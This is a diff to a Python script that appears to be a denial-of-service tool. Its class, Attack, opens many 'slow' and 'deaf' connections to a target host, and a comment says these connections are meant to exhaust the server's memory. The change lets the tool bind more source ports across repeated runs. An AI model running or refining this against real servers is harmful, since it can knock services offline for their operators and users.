@@ -14,6 +14,7 @@ import socket
 import time
 
 DEAF_SNDBUF = 65536  # of each: a thousand of them shall not take the machine's memory, but the server's
+IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h; with a port of bind(2)'s choice the ports of a second run would not suffice
 
 
 class Attack:
@@ -33,7 +34,9 @@ class Attack:
             if deaf:
                 s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                 s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, DEAF_SNDBUF)
-            s.bind((self.o.source, 0))
+            if self.o.source:
+                s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
+                s.bind((self.o.source, 0))
             self.did["connected"] += 1
             try:
                 s.connect((self.o.host, self.o.port))
@@ -91,7 +94,7 @@ class Attack:
 parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
 parser.add_argument("host")
 parser.add_argument("port", type=int)
-parser.add_argument("--source", default="0.0.0.0", metavar="ADDRESS")
+parser.add_argument("--source", default="", metavar="ADDRESS")
 parser.add_argument("--slow", type=int, default=0, metavar="N")
 parser.add_argument("--every", type=float, default=10, metavar="S")
 parser.add_argument("--deaf", type=int, default=0, metavar="N")
